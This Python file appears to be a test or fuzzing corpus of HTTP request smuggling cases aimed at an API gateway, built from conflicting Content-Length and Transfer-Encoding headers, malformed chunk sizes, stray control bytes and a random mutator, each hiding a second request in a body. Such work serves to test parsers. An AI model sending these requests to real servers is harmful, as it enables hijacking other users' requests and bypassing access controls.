"""Requests that two servers read in two ways, and what an attacker hides in them."""

import json
import random
from dataclasses import dataclass

END = b"\r\n"


@dataclass
class Site:
    """Whom an attack is sent to and by whom: what its bytes need."""

    key: str
    # Models whose description tells which request an answer belongs to.
    attacked: str
    sentinel: str
    name: str

    @property
    def auth(self):
        return b"Authorization: Bearer " + self.key.encode()

    def tag(self, role):
        return f"tag-{role}-{self.name}"

    def prompt(self, role):
        message = {"role": "user", "content": self.tag(role)}
        return json.dumps({"model": "gpt-4o", "max_tokens": 8, "messages": [message]}).encode()

    def hidden(self):
        """The request that nobody may take out of another one's body."""
        return self.chat(self.prompt("hidden"), [b"Content-Length: %d" % len(self.prompt("hidden"))])

    def chat(self, body, framing, start=b"POST /v1/chat/completions HTTP/1.1", host=(b"Host: gateway",), end=END):
        return end.join([start, *host, self.auth, *framing, b"", b""]) + body

    def describe(self, model, method=b"GET"):
        lines = [method + b" /v1/models/" + model.encode() + b" HTTP/1.1", b"Host: gateway", self.auth, b"", b""]
        return END.join(lines)


def chunked(content, at=20):
    first, second = content[:at], content[at:]
    return b"%x\r\n%s\r\n%x\r\n%s\r\n0\r\n\r\n" % (len(first), first, len(second), second)


def length(content):
    return b"Content-Length: %d" % len(content)


TE = b"Transfer-Encoding: chunked"


def corpus(site):
    """Every attack by its name."""
    return lengths(site) | codings(site) | chunks(site) | heads(site) | unread(site)


def conflict(site, lines):
    """Both framings at once: by its length the body hides a request, by its chunks it is empty."""
    body = b"0\r\n\r\n" + site.hidden()
    return site.chat(body, [line.replace(b"%L", b"%d" % len(body)) for line in lines])


def lengths(site):
    body = site.prompt("attack")
    size = len(body)
    hiding = body + site.hidden()

    def sent(*lines, content=body):
        return site.chat(content, lines)

    return {
        "length then chunks": conflict(site, [b"Content-Length: %L", TE]),
        "chunks then length": conflict(site, [TE, b"Content-Length: %L"]),
        "no length but chunks": conflict(site, [b"Content-Length: 0", TE]),
        "a short length and chunks": site.chat(chunked(site.prompt("attack")), [b"Content-Length: 4", TE]),
        "two lengths that agree": sent(length(body), length(body)),
        "two lengths, the first short": sent(length(body), length(hiding), content=hiding),
        "two lengths, the first long": sent(length(hiding), length(body), content=hiding),
        "a list of equal lengths": sent(b"Content-Length: %d, %d" % (size, size)),
        "a list of lengths": sent(b"Content-Length: %d, %d" % (size, len(hiding)), content=hiding),
        "a length with a plus": sent(b"Content-Length: +%d" % size),
        "a length with a minus": sent(b"Content-Length: -%d" % size),
        "a length of minus zero": sent(b"Content-Length: -0", content=hiding),
        "a length in hex": sent(b"Content-Length: 0x%x" % size),
        "a length in hex digits": sent(b"Content-Length: %xh" % size),
        "a length with zeros": sent(b"Content-Length: 000%d" % size),
        "a length with a fraction": sent(b"Content-Length: %d.0" % size),
        "a length with an exponent": sent(b"Content-Length: %de0" % size),
        "a length with an underscore": sent(b"Content-Length: 1_0"),
        "a length of two numbers": sent(b"Content-Length: %d %d" % (size, size)),
        "an empty length": sent(b"Content-Length:", content=hiding),
        "a length beyond 64 bits": sent(b"Content-Length: %d" % (2**64 + size)),
        "a length beyond 32 bits": sent(b"Content-Length: %d" % (2**32 + size)),
        "a length of other digits": sent("Content-Length: ١٢".encode()),
        "a length and a vertical tab": sent(b"Content-Length: %d\x0b" % size),
        "a length and a NUL": sent(b"Content-Length: %d\0" % size),
        "a length and blanks": sent(b"Content-Length: \t %d \t" % size),
        "a length before a space": sent(b"Content-Length : %d" % size, content=hiding),
        "a length before a tab": sent(b"Content-Length\t: %d" % size, content=hiding),
        "a length on the next line": sent(b"Content-Length:\r\n %d" % size, content=hiding),
        "a length with an underscored name": sent(b"Content_Length: %d" % size),
        "a length that is too short": sent(b"Content-Length: %d" % (size - 7)),
        "a length in the connection's options": sent(length(hiding), b"Connection: Content-Length", content=hiding),
        "no length at all": sent(b"X-Other: 1"),
    }


def codings(site):
    plain = chunked(site.prompt("attack"))

    def alone(*lines, **more):
        return site.chat(plain, lines, **more)

    def both(*lines):
        return conflict(site, [b"Content-Length: %L", *lines])

    return {
        "chunks": alone(TE),
        "chunks in capitals": alone(b"TRANSFER-ENCODING: CHUNKED"),
        "chunks after tabs": alone(b"Transfer-Encoding:\t chunked\t "),
        "chunks after no space": alone(b"Transfer-Encoding:chunked"),
        "chunks twice": alone(TE, TE),
        "chunks twice in a list": alone(b"Transfer-Encoding: chunked, chunked"),
        "chunks then identity": alone(TE, b"Transfer-Encoding: identity"),
        "identity then chunks": alone(b"Transfer-Encoding: identity", TE),
        "identity and a length": both(b"Transfer-Encoding: identity"),
        "an unknown coding": both(b"Transfer-Encoding: xchunked"),
        "a coding with a letter more": both(b"Transfer-Encoding: chunkedx"),
        "gzip and chunks": alone(b"Transfer-Encoding: gzip, chunked"),
        "chunks and gzip": alone(b"Transfer-Encoding: chunked, gzip"),
        "chunks with a parameter": both(b"Transfer-Encoding: chunked;q=1"),
        "chunks in quotes": both(b'Transfer-Encoding: "chunked"'),
        "chunks before a comma": both(b"Transfer-Encoding: chunked,"),
        "chunks after a comma": both(b"Transfer-Encoding: ,chunked"),
        "an empty coding": both(b"Transfer-Encoding:"),
        "chunks and a vertical tab": both(b"Transfer-Encoding: chunked\x0b"),
        "chunks after a vertical tab": both(b"Transfer-Encoding: \x0bchunked"),
        "chunks and a NUL": both(b"Transfer-Encoding: chunked\0"),
        "chunks and a no-break space": both(b"Transfer-Encoding: chunked\xa0"),
        "chunks before a space": both(b"Transfer-Encoding : chunked"),
        "chunks before a tab": both(b"Transfer-Encoding\t: chunked"),
        "chunks under a folded name": both(b"Transfer-Encoding\r\n : chunked"),
        "chunks on the next line": both(b"Transfer-Encoding:\r\n chunked"),
        "chunks on the next line of another": both(b"X-Other: a\r\n Transfer-Encoding: chunked"),
        "chunks after a bare LF": both(b"X-Other: a\nTransfer-Encoding: chunked"),
        "chunks after a bare CR": both(b"X-Other: a\rTransfer-Encoding: chunked"),
        "chunks after two CRs": both(b"X-Other: a\r\r\nTransfer-Encoding: chunked"),
        "chunks after a NUL": both(b"X-Other: a\0Transfer-Encoding: chunked"),
        "chunks under an underscored name": both(b"Transfer_Encoding: chunked"),
        "chunks under a name with a NUL": both(b"Transfer-Encoding\0: chunked"),
        "chunks under a name after a space": both(b" Transfer-Encoding: chunked"),
        "chunks in HTTP/1.0": alone(TE, start=b"POST /v1/chat/completions HTTP/1.0"),
        "chunks in HTTP/1.0 that stays": alone(
            TE, b"Connection: keep-alive", start=b"POST /v1/chat/completions HTTP/1.0"
        ),
    }


def chunks(site):
    body = site.prompt("attack")
    size = b"%x" % len(body)
    whole = size + END + body + END

    def sent(content):
        return site.chat(content, [TE])

    hidden = site.hidden()
    return {
        "a chunk in hex with 0x": sent(b"0x" + whole + b"0\r\n\r\n"),
        "a chunk with a plus": sent(b"+" + whole + b"0\r\n\r\n"),
        "a chunk with a minus": sent(b"-" + whole + b"0\r\n\r\n"),
        "a chunk after a space": sent(b" " + whole + b"0\r\n\r\n"),
        "a chunk before a space": sent(size + b" \r\n" + body + b"\r\n0\r\n\r\n"),
        "a chunk with zeros": sent(b"0000" + whole + b"0\r\n\r\n"),
        "a chunk beyond 64 bits": sent(b"1" + size.rjust(16, b"0") + END + body + b"\r\n0\r\n\r\n"),
        "a chunk of 64 bits": sent(b"f" * 16 + END + body + b"\r\n0\r\n\r\n"),
        "a chunk with an underscore": sent(b"1_0\r\n" + body + b"\r\n0\r\n\r\n"),
        "a chunk that is no number": sent(b"zz\r\n" + body + b"\r\n0\r\n\r\n"),
        "a chunk without a number": sent(END + body + b"\r\n0\r\n\r\n"),
        "a chunk with an extension": sent(size + b";name=value\r\n" + body + b"\r\n0\r\n\r\n"),
        "a chunk with an empty extension": sent(size + b";\r\n" + body + b"\r\n0\r\n\r\n"),
        "a chunk with a quoted extension": sent(size + b';a="b;c"\r\n' + body + b"\r\n0\r\n\r\n"),
        "a chunk with a long extension": sent(size + b";" + b"a" * 60_000 + END + body + b"\r\n0\r\n\r\n"),
        "an extension that ends in LF": sent(size + b";a\n" + body + b"\r\n0\r\n\r\n"),
        "an extension with a bare CR": sent(size + b";a\rb\r\n" + body + b"\r\n0\r\n\r\n"),
        "an extension that quotes a line": sent(size + b';a="\r\n' + body + b'\r\n0\r\n\r\n' + hidden),
        "an extension with a NUL": sent(size + b";a\0\r\n" + body + b"\r\n0\r\n\r\n"),
        "a chunk's size before LF": sent(size + b"\n" + body + b"\r\n0\r\n\r\n"),
        "a chunk's size before CR": sent(size + b"\r" + body + b"\r\n0\r\n\r\n"),
        "a chunk's end of LF": sent(size + END + body + b"\n0\r\n\r\n"),
        "a chunk's end of CR": sent(size + END + body + b"\r0\r\n\r\n"),
        "a chunk without an end": sent(size + END + body + b"0\r\n\r\n"),
        "a chunk with an end of two letters": sent(size + END + body + b"XX0\r\n\r\n"),
        "chunks that end in LF": sent(whole + b"0\n\n"),
        "chunks that end in CR": sent(whole + b"0\r\r"),
        "chunks that end in zeros": sent(whole + b"0000\r\n\r\n"),
        "chunks that end in minus zero": sent(whole + b"-0\r\n\r\n"),
        "chunks with a trailer": sent(whole + b"0\r\nX-Trailer: a\r\n\r\n"),
        "a length in the trailer": sent(whole + b"0\r\nContent-Length: 500\r\n\r\n"),
        "chunks in the trailer": sent(whole + b"0\r\nTransfer-Encoding: chunked\r\n\r\n"),
        "a trailer that is no field": sent(whole + b"0\r\nGET /livez HTTP/1.1\r\n\r\n"),
        "a folded trailer": sent(whole + b"0\r\nX: a\r\n b\r\n\r\n"),
        "a request after the chunks of another's": sent(b"0\r\n\r\n"),
    }


def heads(site):
    body = site.prompt("attack")
    good = [length(body)]

    def start(line):
        return site.chat(body, good, start=line)

    def hosts(*lines):
        return site.chat(body, good, host=lines)

    def field(line):
        return site.chat(body, [line, *good])

    path = b"/v1/chat/completions"
    return {
        "lines that end in LF": site.chat(body, good, end=b"\n"),
        "lines that end in CR": site.chat(body, good, end=b"\r"),
        "one line that ends in LF": field(b"X-Other: a\nX-Third: b"),
        "an empty line first": END + site.chat(body, good),
        "a space before the method": start(b" POST " + path + b" HTTP/1.1"),
        "two spaces after the method": start(b"POST  " + path + b" HTTP/1.1"),
        "a tab after the method": start(b"POST\t" + path + b" HTTP/1.1"),
        "a space after the version": start(b"POST " + path + b" HTTP/1.1 "),
        "a second target": start(b"POST " + path + b" /livez HTTP/1.1"),
        "a method in small letters": start(b"post " + path + b" HTTP/1.1"),
        "a version without a minor": start(b"POST " + path + b" HTTP/1"),
        "version 1.2": start(b"POST " + path + b" HTTP/1.2"),
        "version 2.0": start(b"POST " + path + b" HTTP/2.0"),
        "version 1.10": start(b"POST " + path + b" HTTP/1.10"),
        "a version in small letters": start(b"POST " + path + b" http/1.1"),
        "no version": start(b"POST " + path),
        "a NUL in the target": start(b"POST " + path + b"\0 HTTP/1.1"),
        "a target in full": start(b"POST http://gateway" + path + b" HTTP/1.1"),
        "a target at another's": start(b"POST http://elsewhere" + path + b" HTTP/1.1"),
        "no host": hosts(),
        "two hosts": hosts(b"Host: gateway", b"Host: elsewhere"),
        "two equal hosts": hosts(b"Host: gateway", b"Host: gateway"),
        "an empty host": hosts(b"Host:"),
        "a list of hosts": hosts(b"Host: gateway, elsewhere"),
        "a host with a path": hosts(b"Host: gateway/v1/pricing?"),
        "a host with a name": hosts(b"Host: user@gateway"),
        "a host with a space": hosts(b"Host: gateway elsewhere"),
        "a field before the host": hosts(b" X: a", b"Host: gateway"),
        "a host before a space": hosts(b"Host : gateway"),
        "a field without a colon": field(b"X-Other"),
        "a field without a name": field(b": a"),
        "a field with a space in its name": field(b"X Other: a"),
        "a field with a NUL": field(b"X-Other: a\0b"),
        "a field with a NUL in its name": field(b"X-\0Other: a"),
        "a field with a bell": field(b"X-Other: a\x07b"),
        "a folded field": field(b"X-Other: a\r\n b"),
        "an upgrade to h2c": field(b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk"),
        "an upgrade to a web socket": field(b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13"),
        "an expectation": field(b"Expect: 100-continue"),
        "a connection that closes": field(b"Connection: close"),
    }


def unread(site):
    """Bodies that the route does not read: they are passed over, never served."""
    hidden = site.hidden()
    lines = [site.auth, length(hidden), b"", b""]

    def sent(start, *more):
        return END.join([start, b"Host: gateway", *more, *lines]) + hidden

    get = END.join(
        [b"GET /v1/models/" + site.attacked.encode() + b" HTTP/1.1", b"Host: gateway", site.auth, TE, b"", b""]
    )

    def in_a_chunk(content):
        return get + b"%x\r\n%s\r\n0\r\n\r\n" % (len(content), content)

    wrong = site.hidden().replace(site.key.encode(), b"fbx-000000000000-" + b"0" * 64, 1)
    return {
        "a body that nobody reads": sent(b"GET /v1/models/" + site.attacked.encode() + b" HTTP/1.1"),
        "chunks that nobody reads": get + chunked(hidden),
        "a request in a chunk": in_a_chunk(hidden),
        # Its body would be whatever is sent next, by whomever.
        "the start of a request in a chunk": in_a_chunk(site.chat(b"", [b"Content-Length: 60"])),
        "a body of no route": sent(b"POST /nowhere HTTP/1.1"),
        "a body of a wrong method": sent(b"DELETE /v1/pricing HTTP/1.1"),
        "a body of a stranger": END.join(
            [b"POST /v1/chat/completions HTTP/1.1", b"Host: gateway", length(wrong), b"", b""]
        )
        + wrong,
        "a body that is no JSON": site.chat(hidden, [length(hidden)]),
    }


# Mutations


def mutated(site, seed):
    """A good request with two things wrong, by a seed."""
    chance = random.Random(seed)
    body = site.prompt("attack")
    hiding = b"0\r\n\r\n" + site.hidden()
    lines, content = chance.choice(
        [
            ([length(body)], body),
            ([TE], chunked(body)),
            ([length(hiding)], hiding),
            ([TE], chunked(body + b" " * 9, 1)),
        ]
    )
    lines = [b"POST /v1/chat/completions HTTP/1.1", b"Host: gateway", site.auth, *lines, b"Accept: */*"]
    for _ in range(2):
        lines, content = chance.choice(MUTATIONS)(chance, list(lines), content, site)
    return b"".join(line if line.endswith(b"\n") else line + END for line in lines) + END + content


ODD = [b"\0", b"\r", b"\n", b"\t", b" ", b"\x0b", b"\x0c", b"\x80", b"\xff", b":", b",", b";", b"\r\n ", b"\x1f", b"\x7f"]


def odd_byte_in_head(chance, lines, content, site):
    at = chance.randrange(len(lines))
    places = [0, lines[at].find(b":"), lines[at].find(b":") + 1, len(lines[at])]
    place = max(0, chance.choice(places))
    lines[at] = lines[at][:place] + chance.choice(ODD) + lines[at][place:]
    return lines, content


def odd_byte_in_body(chance, lines, content, site):
    place = chance.choice([0, 1, 2, 3, 4, len(content) - 1, len(content) - 3, len(content) - 5, len(content)])
    return lines, content[:place] + chance.choice(ODD) + content[place:]


def another_length(chance, lines, content, site):
    value = chance.choice([0, 1, len(content), len(content) - 5, 2**64 + len(content), -1])
    form = chance.choice([b"Content-Length: %d", b"Content-Length: +%d", b"content-length:%d ", b"Content-Length : %d"])
    lines.insert(chance.randrange(1, len(lines) + 1), form % value)
    return lines, content


def another_coding(chance, lines, content, site):
    name = chance.choice([b"Transfer-Encoding:", b"transfer-encoding: ", b"Transfer-Encoding : ", b"Transfer-Encoding:\t"])
    value = chance.choice([b"chunked", b"identity", b"Chunked", b"chunked, identity", b"gzip", b"", b"x", b"chunked;a"])
    lines.insert(chance.randrange(1, len(lines) + 1), name + value)
    return lines, content


def other_line_end(chance, lines, content, site):
    at = chance.randrange(len(lines))
    lines[at] += chance.choice([b"\n", b"\r\r\n", b" \r\n", b"\r\n\n", b"\n\r\n"])
    return lines, content


def line_again(chance, lines, content, site):
    lines.insert(chance.randrange(1, len(lines) + 1), chance.choice(lines))
    return lines, content


def line_gone(chance, lines, content, site):
    del lines[chance.randrange(1, len(lines))]
    return lines, content


def other_version(chance, lines, content, site):
    lines[0] = lines[0].replace(b"HTTP/1.1", chance.choice([b"HTTP/1.0", b"HTTP/1.2", b"HTTP/0.9", b"HTTP/1.1x", b""]))
    return lines, content


def other_connection(chance, lines, content, site):
    value = chance.choice([b"close", b"keep-alive", b"upgrade", b"Close, x", b"Transfer-Encoding", b"Content-Length"])
    lines.append(b"Connection: " + value)
    return lines, content


def other_chunk_size(chance, lines, content, site):
    size, end, rest = content.partition(END)
    if size.isalnum() and len(size) < 4:
        forms = [b"0%s", b"%s;a", b"%s ;a=b", b" %s", b"0x%s", b"+%s", b"%s ", b"1%s", b"%s;\n", b"%s\0", b"0" * 16 + b"%s"]
        content = chance.choice(forms) % size + end + rest
    return lines, content


def request_after(chance, lines, content, site):
    return lines, content + site.describe(site.attacked, chance.choice([b"GET", b"PUT"]))


MUTATIONS = [
    odd_byte_in_head, odd_byte_in_head, odd_byte_in_body, another_length, another_coding, other_line_end, line_again,
    line_gone, other_version, other_connection, other_chunk_size, request_after,
]
